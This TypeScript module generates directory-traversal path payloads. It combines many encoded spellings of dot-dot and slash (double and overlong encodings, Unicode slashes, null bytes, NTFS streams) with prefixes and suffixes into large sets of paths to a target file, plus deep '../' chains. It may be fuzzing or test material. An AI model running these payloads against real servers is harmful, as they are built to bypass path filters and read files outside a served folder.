/** Paths that lead out of a folder, in every spelling that some server somewhere takes for one. */

const DOTS = [
  '..',
  '%2e%2e',
  '.%2e',
  '%2E.',
  '%252e%252e',
  '%25252e%25252e',
  '%c0%ae%c0%ae',
  '%e0%80%ae%e0%80%ae',
  '%u002e%u002e',
  '\uff0e\uff0e',
  '%ef%bc%8e%ef%bc%8e',
  '....',
  '..;',
  '..%00',
  '.%00.',
  '%00..',
  '. .',
  '..%20',
  '..%0d%0a',
];
const SLASHES = [
  '/',
  '//',
  '/./',
  '\\',
  '%2f',
  '%2F',
  '%5c',
  '%252f',
  '%25252f',
  '%255c',
  '%c0%af',
  '%e0%80%af',
  '%f0%80%80%af',
  '%c1%9c',
  '\u2215',
  '\uff0f',
  '%ef%bc%8f',
  '%e2%88%95',
  '%u2215',
  '\\/',
  '/%00/',
  ';/',
  '%09/',
];
const STARTS = ['', '/', './', 'assets/', 'a/', '%2f', '\\', 'file:', 'file:///', 'http://localhost/', '~/', '%00', 'C:\\'];
const ENDS = ['', '%00', '%00.pdf', '?', '#', '%23', '/', '%2f', '.', '%20', '::$DATA', ';x=.js', '.br', '~', '\\'];

/** At least `count` spellings of the way to `target`, `absolute` paths and endless ones among them. */
export function spellings(target: string, absolute: string, count: number): string[] {
  const all = new Set<string>();
  for (const start of ['', '/']) for (const end of ENDS) all.add(start + absolute.replaceAll('/', start === '' ? '%2f' : '/') + end);
  for (const depth of [200, 2000])
    all
      .add(`${'../'.repeat(depth)}${target}`)
      .add(`${'%2e%2e%2f'.repeat(depth)}${target}`)
      .add(`${'a/../'.repeat(depth)}../${target}`);
  // Every choice of dots with every choice of slashes; the other parts in turn, so that each comes with many.
  let turn = 0;
  for (let round = 0; all.size < count; round += 1) {
    for (const dots of DOTS) {
      for (const slash of SLASHES) {
        turn += 1;
        const climb = `${dots}${slash}`.repeat(1 + ((turn + round) % 8));
        all.add(`${STARTS[(turn + round) % STARTS.length]}${climb}${target}${ENDS[(turn * 7 + round) % ENDS.length]}`);
      }
    }
  }
  return [...all];
}

/** A spelling as it can stand in a request line: no space, line break or `#` can, and letters go as their bytes. */
export function inRequestLine(path: string): string {
  return Buffer.from(path.replaceAll(' ', '%20')).toString('latin1');
}
